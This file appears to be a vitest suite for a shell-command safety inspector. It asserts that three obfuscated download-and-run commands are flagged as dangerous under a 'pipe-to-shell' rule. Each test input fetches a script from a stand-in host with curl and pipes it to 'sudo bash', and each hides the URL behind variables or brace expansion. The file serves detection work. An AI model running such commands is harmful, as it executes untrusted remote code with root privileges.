/**
 * Attack: the download's address is built from variables or brace expansion.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('url from variables', () => {
  it.each([
    ['H=x.example\nP=p.sh\ncurl -s "https://$H/$P" | sudo bash', 'pipe-to-shell', 'high'],
    ['curl -s https://x.example/{a,b}.sh | sudo bash', 'pipe-to-shell', 'high'],
    ['X="curl -fsSL https://x.example/p.sh"\n$X | sudo bash', 'pipe-to-shell', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
